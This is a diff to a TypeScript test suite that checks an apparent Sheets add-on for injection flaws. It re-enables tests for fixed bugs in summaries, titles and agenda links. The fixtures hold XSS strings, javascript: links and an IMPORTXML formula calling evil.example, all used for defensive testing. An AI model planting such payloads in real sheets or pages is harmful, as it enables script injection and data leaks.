@@ -14,6 +14,7 @@ import {
 import { fixture, fresh, ok } from './fixture';
 import { fit, PAYLOADS, type Payload } from './payloads';
 import { answerSurvey, contactEmails, seedPayload, seedSchool, stored } from './seed-payloads';
+import { tally } from '../report';
 
 const { state, ctx } = fixture();
 const DAY = 24 * 60 * 60 * 1000;
@@ -22,7 +23,7 @@ let fieldsFilled = 0;
 const found = { formulas: 0, headers: 0, recipients: 0, markup: 0, links: 0 };
 
 afterAll(() => {
-  console.log(
+  tally(
     `payloads tried: ${payloadsTried} (server side, ${fieldsFilled} fields), formulas: ${found.formulas}, ` +
       `header injections: ${found.headers}, stray recipients: ${found.recipients}, ` +
       `markup in mail: ${found.markup}, unsafe links: ${found.links}`,
@@ -119,9 +120,8 @@ describe.each(PAYLOADS.map((p) => [p.name, p]))('payload: %s', (_name: string, p
     const row = tab?.values.find((r) => r[0] === partner.record.id);
     expect(row?.[nameAt]).toBe(stored(TABLES.partners, 'name', p.text));
     const summary = w.inspect().tabs.find((t) => t.name === 'Survey Summary');
-    // F6: the summary tab drops a leading apostrophe; that case is left out here.
-    if (!p.text.startsWith("'"))
-      expect(summary?.values.flat()).toContain(stored(TABLES.partners, 'name', p.text));
+    // A leading apostrophe is kept too (F6: it was read as Sheets' text marker).
+    expect(summary?.values.flat()).toContain(stored(TABLES.partners, 'name', p.text));
 
     // The calendar event is the gathering's text, as plain text.
     const [event] = w.calendar
@@ -157,8 +157,8 @@ describe('typed by hand in the sheet', () => {
     byHeader('Partners', ctx.partnerId, 'Organization', '<img src=x onerror="window.__pwned=1">');
     byHeader('Partners', ctx.partnerId, 'Website', 'javascript:window.__pwned=1');
     byHeader('Partners', ctx.partnerId, 'Services', '=IMPORTXML("https://evil.example","//a")');
-    // F8: a title typed on two lines in the cell keeps its line break in Doc names and event titles.
-    byHeader('Gatherings', ctx.gatheringId, 'Title', '"><svg onload=window.__pwned=1> =1+1');
+    // Typed on two lines (Alt+Enter): Doc names and event titles stay on one line (F8).
+    byHeader('Gatherings', ctx.gatheringId, 'Title', '"><svg onload=window.__pwned=1>\n=1+1');
     byHeader('Gatherings', ctx.gatheringId, 'Agenda Doc', 'javascript:window.__pwned=1');
     byHeader('Gatherings', ctx.gatheringId, 'Objectives', '<a href="javascript:window.__pwned=1">agenda</a>');
     const contacts = ss.getSheetByName('Contacts');
@@ -181,11 +181,12 @@ describe('typed by hand in the sheet', () => {
     const followUps = w.mail.sent.length;
     expect(followUps).toBeGreaterThan(0);
     for (const m of w.mail.sent) expect(`${m.body} ${m.htmlBody}`).not.toMatch(/javascript:/i);
-    // F10: making the agenda again over a link that is not a Docs link fails; left out here.
     expect(ok<AgendaResult>(addOn, 'makeAgenda', ctx.gatheringId, false)).toEqual({
       status: 'exists',
       url: 'javascript:window.__pwned=1',
     });
+    // Making it again over a link that is not a Docs link makes a new Doc (F10: it failed).
+    expect(ok<AgendaResult>(addOn, 'makeAgenda', ctx.gatheringId, true).status).toBe('made');
     ok(addOn, 'makeSchoolDoc', 'directory');
     ok(addOn, 'makePartnerDoc', 'agreement', ctx.partnerId);
     const intended = new Set([...contactEmails(addOn)].filter((e) => !/evil\.example/.test(e)));
